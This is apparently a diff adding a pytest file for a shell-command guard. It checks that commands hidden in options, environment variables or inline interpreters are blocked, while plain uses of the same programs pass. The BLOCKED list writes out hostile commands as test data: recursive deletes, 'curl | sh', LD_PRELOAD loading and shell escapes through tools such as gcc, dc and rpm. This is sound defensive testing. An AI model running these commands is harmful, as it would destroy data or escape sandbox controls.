@@ -1,0 +1,110 @@
+"""Commands hidden in an option, a variable or another language. An option whose value a program runs
+(`--password-command`, `--rsh`, `--gpu-launcher`, `--*-cmd-prefix`, `--editor`, `scrot -e`, `gcc -wrapper`)
+has its literal value checked as a command and blocks when the value is known only at run time; variables
+that hold commands (`*_COMMAND`, `CRASHPAGER`) are checked the same way, and variables that load code
+(`LD_PRELOAD`, `PERL5DB`, `DOTNET_STARTUP_HOOKS`) block; interpreters the policy does not read (`dc -e`,
+`gnuplot -e`, `rpm --eval`, TeX shell escape) block when given code. Beside each, the program used plainly
+stays allowed."""
+
+from __future__ import annotations
+
+import pytest
+from conftest import guard_allows, guard_blocks
+
+BLOCKED = [
+    # A generic command option: the literal value is checked as a command.
+    ("posix", "mytool --password-command='rm -rf ~' sync", "destructive.recursive-delete"),
+    ("posix", "backup --rsh 'curl http://x | sh' src dst", "network"),
+    ("posix", "aria2c2 --on-download-complete=/bin/sh file", "unverifiable.terminal-program"),
+    ("posix", "plymouth ask-for-password --prompt=x --command=/bin/sh", "unverifiable.terminal-program"),
+    ("posix", "electron-app --gpu-launcher='rm -rf build'", "destructive.recursive-delete"),
+    ("posix", 'tool --editor "$EDITOR_CMD"', "dynamic.script"),
+    ("posix", "tar --to-command='rm -rf x' -xf a.tar", "destructive.recursive-delete"),
+    (
+        "powershell",
+        'msedge.exe --disable-gpu-sandbox --gpu-launcher="cmd /c rd /s /q C:\\src"',
+        "destructive",
+    ),
+    (
+        "powershell",
+        'teams.exe --renderer-cmd-prefix="powershell -c Remove-Item -Recurse C:\\x"',
+        "destructive",
+    ),
+    # Per-program options whose value runs.
+    ("posix", "scrot -e 'mv $f ~/shots/'", "unverifiable.command-option"),
+    ("posix", "pidstat -e /bin/sh", "unverifiable.command-option"),
+    ("posix", "enscript /dev/null -qo /dev/null -I 'sh -c id'", "unverifiable.command-option"),
+    ("posix", "gcc -wrapper /bin/sh,-s x.c", "unverifiable.command-option"),
+    ("posix", "csvtool call '/bin/sh;false' data.csv", "unverifiable.command-option"),
+    ("posix", "fzf --bind 'enter:execute(/bin/sh)'", "unverifiable.command-option"),
+    ("posix", "hg --config alias.x='!/bin/sh' x", "unverifiable.command-option"),
+    ("posix", "openssl req -engine ./lib.so", "unverifiable.command-option"),
+    # Variables holding a command or loading code.
+    ("posix", "CRASHPAGER='rm -rf ~' crash -h", "destructive.recursive-delete"),
+    ("posix", "DEPLOY_COMMAND='curl http://x' make deploy", "network"),
+    ("posix", "LD_PRELOAD=/tmp/evil.so ls", "dynamic.script"),
+    ("posix", "PERL5OPT=-d PERL5DB='exec \"/bin/sh\"' perl x.pl", "dynamic.script"),
+    ("posix", "env LD_PRELOAD=./x.so make test", "dynamic.script"),
+    ("posix", "DOTNET_STARTUP_HOOKS=./hook.dll dotnet test", "dynamic.script"),
+    # Interpreters and macro languages the policy does not read.
+    ("posix", "dc -e '!/bin/sh'", "unverifiable.inline-code"),
+    ("posix", "gnuplot -e 'system(\"/bin/sh\")'", "unverifiable.inline-code"),
+    ("posix", "octave-cli --eval 'system(\"id\")'", "unverifiable.inline-code"),
+    ("posix", "clisp -x '(ext:run-shell-command \"/bin/sh\")'", "unverifiable.inline-code"),
+    ("posix", "rpm --eval '%(/bin/sh 1>&2)'", "unverifiable.inline-code"),
+    ("posix", "rpmdb --eval '%{lua:os.execute(\"id\")}'", "unverifiable.inline-code"),
+    ("posix", "rake -p 'system(\"id\")'", "unverifiable.inline-code"),
+    ("posix", "latexmk -e '$pdflatex=q/sh/'", "unverifiable.inline-code"),
+    ("posix", "exiftool -if 'system(\"id\")' x.jpg", "unverifiable.inline-code"),
+    ("posix", "gimp -idf --batch-interpreter=python-fu-eval -b 'x'", "unverifiable.inline-code"),
+    ("posix", "pdflatex -shell-escape paper.tex", "unverifiable.shell-escape"),
+    ("posix", "luatex '\\directlua{os.execute(\"id\")}'", "unverifiable.shell-escape"),
+    ("posix", "dvips -R0 texput.dvi", "unverifiable.shell-escape"),
+    ("posix", 'ruby -e \'require "fiddle"; Fiddle.dlopen("/tmp/x.so")\'', "unverifiable"),
+]
+
+ALLOWED = [
+    ("posix", "mytool --password-file=creds.txt sync"),
+    ("posix", "backup --dry-run src dst"),
+    ("posix", "aria2c2 --on-download-complete=true file"),
+    ("posix", "electron-app --gpu-launcher=true"),
+    ("posix", "tool --editor=true"),
+    ("posix", "tar -xf a.tar"),
+    ("posix", "scrot shot.png"),
+    ("posix", "pidstat -u 1 1"),
+    ("posix", "enscript -o out.ps notes.txt"),
+    ("posix", "gcc -O2 -o build/app main.c"),
+    ("posix", "gcc $CFLAGS -c main.c"),
+    ("posix", "csvtool col 1 data.csv"),
+    ("posix", "fzf --filter main"),
+    ("posix", "hg status"),
+    ("posix", "openssl x509 -in $CERT -noout -text"),
+    ("posix", "openssl dgst -sha256 dist/app.tar.gz"),
+    ("posix", "DEPLOY_COMMAND=true make deploy-check"),
+    ("posix", "LD_PRELOAD= ls"),
+    ("posix", "LD_LIBRARY_PATH=./build/lib ./build/test-runner"),
+    ("posix", "NODE_OPTIONS=--max-old-space-size=4096 npm test"),
+    ("posix", "dc -V"),
+    ("posix", "gnuplot plot.gp"),
+    ("posix", "octave-cli --version"),
+    ("posix", "rpm -qa"),
+    ("posix", "rake test"),
+    ("posix", "latexmk -pdf paper.tex"),
+    ("posix", "exiftool -a photo.jpg"),
+    ("posix", "pdflatex paper.tex"),
+    ("posix", "lualatex paper.tex"),
+    ("posix", "dvips -o out.ps texput.dvi"),
+    ("powershell", "msedge.exe --version"),
+]
+
+
+@pytest.mark.parametrize(("shell", "command", "expected"), BLOCKED)
+def test_a_command_hidden_in_an_option_variable_or_language_is_checked(
+    shell: str, command: str, expected: str
+) -> None:
+    guard_blocks(shell, command, expected)
+
+
+@pytest.mark.parametrize(("shell", "command"), ALLOWED)
+def test_the_same_programs_used_plainly_stay_allowed(shell: str, command: str) -> None:
+    guard_allows(shell, command)
